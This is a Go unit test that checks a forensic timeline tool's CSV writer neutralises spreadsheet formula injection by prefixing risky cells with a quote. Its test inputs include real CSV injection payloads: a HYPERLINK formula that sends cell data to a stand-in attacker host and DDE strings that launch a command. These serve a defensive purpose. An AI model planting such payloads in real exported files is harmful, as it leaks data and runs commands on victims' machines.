package output

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"slices"
	"testing"
)

// Cells from the evidence that a spreadsheet would run as formulas get a
// leading quote; numbers and MACB flags stay as they are; the file still
// parses as CSV with the same columns.
func TestCSVNeutralizesFormulas(t *testing.T) {
	in := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+33 6 12 34 56 78: click", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1", "\r=1+1", "-1", "+33.5", "-2e3", "---B", "M-C-", "2021-01-01 00:00:00.000000", "plain", "",
	}
	want := []string{
		`'=HYPERLINK("http://evil.example/?"&A1,"x")`, "'+33 6 12 34 56 78: click", "'-2+3+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0",
		"'\t=1+1", "'\r=1+1", "-1", "+33.5", "-2e3", "---B", "M-C-", "2021-01-01 00:00:00.000000", "plain", "",
	}
	var buf bytes.Buffer
	w := bufio.NewWriter(&buf)
	writeCSVRow(w, "UTC Timestamp", "Plugin", "Event", "Description")
	for _, c := range in {
		writeCSVRow(w, "2021-01-01 00:00:00.000000", "sms", "sms_received", c)
	}
	w.Flush()
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(in)+1 || !slices.Equal(rows[0], []string{"UTC Timestamp", "Plugin", "Event", "Description"}) {
		t.Fatalf("rows = %q", rows)
	}
	for i, r := range rows[1:] {
		if len(r) != 4 || r[0] != "2021-01-01 00:00:00.000000" || r[1] != "sms" {
			t.Errorf("row %d = %q", i, r)
			continue
		}
		if r[3] != want[i] {
			t.Errorf("cell %q written as %q, want %q", in[i], r[3], want[i])
		}
	}
}
